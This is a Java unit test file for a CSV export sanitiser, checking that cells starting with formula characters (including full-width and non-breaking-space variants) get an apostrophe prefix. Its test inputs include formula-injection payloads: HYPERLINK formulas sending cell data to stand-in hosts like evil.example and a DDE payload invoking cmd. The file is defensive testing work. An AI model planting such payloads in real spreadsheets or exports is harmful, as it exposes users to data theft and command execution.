package ai.coccinelle.channels.producer.campaign;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvAnswersTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example\")",
                "+33612345678+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(A1:A9)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "+"
            })
    void whatASpreadsheetWouldCalculateHasAnApostropheBeforeIt(String cell) {
        assertThat(CsvAnswers.text(cell)).isEqualTo("'" + cell);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "x;=HYPERLINK(\"http://evil/?\"&A1) | x;'=HYPERLINK(\"http://evil/?\"&A1)",
                "a,@SUM(A1) | a,'@SUM(A1)",
                "a;\u00a0-1;+2 | a;'\u00a0-1;'+2",
                "\uff1d1+1 | '\uff1d1+1",
                "\u00a0\uff0b1 | '\u00a0\uff0b1",
                "she said \"=1\" | she said \"'=1\""
            })
    void soHasWhatASpreadsheetOfAnotherLanguageWouldMakeACellOf(String cell, String written) {
        assertThat(CsvAnswers.text(cell)).isEqualTo(written);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "+33612345678",
                "client@exemple.com",
                "2027-01-15T13:00:00Z",
                "sent",
                "a=b",
                "",
                "Give it as +33612345678 or 06 12"
            })
    void whatItWouldNotStaysAsItIs(String cell) {
        assertThat(CsvAnswers.text(cell)).isEqualTo(cell);
    }

    @Test
    void whatThereIsNotIsAnEmptyCell() {
        assertThat(CsvAnswers.text(null)).isEmpty();
    }
}
